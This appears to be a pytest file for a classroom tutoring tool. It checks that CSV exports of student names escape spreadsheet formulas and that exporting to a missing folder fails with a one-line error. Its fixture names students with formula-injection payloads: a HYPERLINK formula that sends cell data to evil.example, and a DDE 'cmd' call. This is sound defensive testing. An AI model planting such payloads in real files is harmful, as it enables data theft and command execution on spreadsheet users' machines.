"""A CSV the teacher opens in a spreadsheet shows what was typed: a student whose name starts like a formula
(``=HYPERLINK(...)``, ``@SUM(...)``, ``+cmd|...``, ``-2+3``) is a name, never a live formula or link. And
``--csv`` into a folder that does not exist is a one-line error before the day's list is issued."""

from __future__ import annotations

import csv

import pytest
from typer.testing import CliRunner

from adaptive.cli import app
from adaptive.demo.course import sample_course
from adaptive.domain.spreadsheet import to_csv
from tests.classroom.school import Class, school_day
from tests.conftest import sql

HOSTILE = {"ana": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "ben": "@SUM(A1:A9)",
           "cy": "+cmd|' /C calc'!A0", "dee": "-2+3", "eli": "\t=1+1"}


@pytest.fixture(scope="module")
def hostile_class(module_database):
    """Section 6A, every student stuck on 6.NS.2 (so all are on the small-group list), named like formulas."""
    from adaptive import Tutor

    with Tutor(module_database) as tutor:
        tutor.import_curriculum(sample_course())
        tutor.add_teacher("ms-rivera", "Ms Rivera")
        tutor.add_section("6A", "Grade 6 A", teacher="ms-rivera")
        yield _named(Class(tutor))


def _named(school: Class) -> Class:
    school.enroll("6A", list(HOSTILE))
    for code, name in HOSTILE.items():
        school.tutor.add_student(code, name=name)
    for s in HOSTILE:
        school.stuck(s, "6.NS.2")
    return school


def _issued_lists(url: str) -> int:
    return sql(url, "select count(*) from small_group")[0][0]


def test_the_small_group_csv_shows_formula_like_names_as_text(hostile_class, tmp_path):
    out = tmp_path / "groups.csv"
    done = CliRunner().invoke(app, ["--db", hostile_class.tutor.url, "groups", "6A", "--date",
                                    school_day().isoformat(), "--preview", "--csv", str(out)])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["student"]: r["name"] for r in rows} == {code: "'" + name for code, name in HOSTILE.items()}
    assert all(not r["p_mastered"].startswith("'") for r in rows)  # a number stays a number


def test_the_roster_listed_as_csv_shows_formula_like_names_as_text(hostile_class):
    done = CliRunner().invoke(app, ["--db", hostile_class.tutor.url, "students", "6A", "--format", "csv"])
    assert done.exit_code == 0, done.output
    names = {r["student"]: r["name"] for r in csv.DictReader(done.stdout.splitlines())}
    assert names == {code: "'" + name for code, name in HOSTILE.items()}


def test_only_text_cells_are_quoted_a_negative_number_stays_a_number():
    assert to_csv(["name", "change", "count", "note"], [["=1+1", -0.5, -3, None], ["Ana", 0.25, 2, "-ok"]]) == (
        "name,change,count,note\n'=1+1,-0.5,-3,\nAna,0.25,2,'-ok\n")


def test_groups_into_a_missing_folder_is_a_one_line_error_and_the_list_is_not_issued(hostile_class, tmp_path):
    target = tmp_path / "missing" / "folder" / "groups.csv"
    done = CliRunner().invoke(app, ["--db", hostile_class.tutor.url, "groups", "6A", "--date",
                                    school_day().isoformat(), "--csv", str(target)])
    assert done.exit_code == 2
    assert done.output == f"error: --csv {target}: folder {target.parent} does not exist\n"
    assert not target.parent.exists()
    assert _issued_lists(hostile_class.tutor.url) == 0


def test_groups_into_a_folder_name_is_a_one_line_error(hostile_class, tmp_path):
    done = CliRunner().invoke(app, ["--db", hostile_class.tutor.url, "groups", "6A", "--date",
                                    school_day().isoformat(), "--csv", str(tmp_path)])
    assert done.exit_code == 2 and done.output == f"error: --csv {tmp_path}: is a folder; name a file in it\n"
    assert _issued_lists(hostile_class.tutor.url) == 0
